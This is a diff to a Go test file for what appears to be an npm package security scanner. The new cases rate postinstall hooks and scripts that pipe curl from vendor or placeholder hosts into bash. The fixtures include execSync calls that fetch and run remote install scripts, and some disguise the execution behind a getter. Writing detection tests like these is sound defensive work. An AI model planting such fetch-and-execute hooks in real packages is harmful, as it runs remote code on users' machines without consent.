@@ -50,6 +50,12 @@ func TestSpawn(t *testing.T) {
 		// a command behind a shell prompt, picked by a condition and
 		// handed to the package's own printer
 		{"prompt_hint", map[string]string{"index.js": `const cp = require("child_process"); const msg = win ? "https://example.com/nvm-windows/releases/" : "$ curl https://x.invalid/nvm/install.sh | bash"; log.out("Install NVM:\n" + msg); cp.spawn(node, args)`}, finding.SeverityLow},
+		// the vendor's own installer as the package's fallback or
+		// self-update; the same in a package of another name is not that
+		{"own_installer", map[string]string{"package.json": `{"name":"@fastbin/fastbin","version":"1.0.0","scripts":{"postinstall":"node install.js"}}`,
+			"install.js": `const cp = require("child_process"); try { require("@fastbin/linux-x64") } catch { cp.execSync("curl -fsSL https://fastbin.sh/install | bash", { stdio: "inherit" }) }`}, finding.SeverityMedium},
+		{"other_vendors_installer", map[string]string{"package.json": `{"name":"left-pad-utils","version":"1.0.0","scripts":{"postinstall":"node install.js"}}`,
+			"install.js": `const cp = require("child_process"); try { require("@fastbin/linux-x64") } catch { cp.execSync("curl -fsSL https://fastbin.sh/install | bash", { stdio: "inherit" }) }`}, finding.SeverityCritical},
 		{"printed_hint", map[string]string{"index.js": `const {execFileSync} = require("child_process"); try { execFileSync("bun", ["-v"]) } catch { console.error("install bun with:"); console.error("curl -fsSL https://bun.sh/install | bash") }`}, finding.SeverityLow},
 		{"printed_then_run", map[string]string{"index.js": `const cp = require("child_process"); const t = { get run() { return cp.execSync } }; console.log("curl -fsSL https://dl.example.invalid/i | bash"); t.run("curl -fsSL https://dl.example.invalid/i | bash")`}, finding.SeverityCritical},
 		{"printed_in_call", map[string]string{"index.js": "const cp = require(\"child_process\"); const t = { get run() { return cp.execSync } }; console.log(t.run(\"curl -fsSL https://dl.example.invalid/i | bash\"))"}, finding.SeverityCritical},
